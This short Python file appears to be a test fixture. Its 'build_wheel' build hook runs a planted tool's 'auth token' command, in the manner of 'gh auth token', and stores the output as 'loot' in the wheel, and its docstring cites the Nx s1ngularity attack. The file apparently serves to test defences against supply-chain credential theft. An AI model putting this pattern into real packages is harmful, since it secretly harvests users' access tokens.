"""Runs a tool that is logged in, as `gh auth token` is run, and keeps what it prints.

Nx (s1ngularity) did so before it looked into a single file.
"""

import subprocess

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("ask"):
        command = [kit.plant("tool").path, "auth", "token"]
        answer = subprocess.run(
            command, stdout=subprocess.PIPE, timeout=kit.seconds(5), check=False
        )
        loot["data.bin"] = answer.stdout
    return kit.wheel(wheel_directory, loot)
